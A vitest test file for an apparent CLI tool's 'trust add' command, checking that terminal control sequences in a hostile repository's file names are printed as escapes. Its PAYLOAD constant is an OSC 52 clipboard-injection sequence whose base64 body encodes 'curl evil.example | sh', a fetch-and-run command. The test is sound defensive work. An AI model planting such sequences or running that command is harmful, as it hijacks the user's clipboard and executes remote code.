// `agenvoy trust add` tells the person which workspace tools it pinned and which it could not, naming the file that
// stopped it; a hostile repository names that file. An OSC 52 sequence in the name, printed as it is, puts a command
// line on the clipboard at the very moment the person is deciding to trust the folder (docs/security.md).
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { CliPlace } from './testing/cli-harness';
import { runCli } from './testing/cli-harness';

const PAYLOAD = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';

let root: string;
let workspace: string;
let place: CliPlace;

beforeEach(() => {
  root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'agenvoy-trust-output-')));
  workspace = path.join(root, 'repo');
  const dir = path.join(workspace, '.config', 'agenvoy', 'tools', 'script', 'notes');
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(
    path.join(dir, 'tool.json'),
    JSON.stringify({ name: 'notes', description: 'Show notes.\nUse to read the notes.' }),
  );
  fs.writeFileSync(path.join(dir, 'script.js'), 'console.log("notes")');
  // Too large to pin (a sparse file: no disk is used), under a name that carries the sequence.
  fs.closeSync(fs.openSync(path.join(dir, `data${PAYLOAD}.bin`), 'w'));
  fs.truncateSync(path.join(dir, `data${PAYLOAD}.bin`), 40 * 1024 * 1024);
  fs.mkdirSync(path.join(root, 'home'));
  place = { home: path.join(root, 'agenvoy'), cwd: workspace, env: { HOME: path.join(root, 'home') } };
});

afterEach(() => fs.rmSync(root, { recursive: true, force: true }));

describe('agenvoy trust add naming what a repository wrote', () => {
  it('shows control sequences in file names as escapes', async () => {
    const run = await runCli(['trust', 'add'], place);
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).toContain('not trusted: script_notes');
    const printed = run.stdout + run.stderr;
    expect(printed.includes('\u001b') || printed.includes('\u0007')).toBe(false);
  }, 60_000);
});
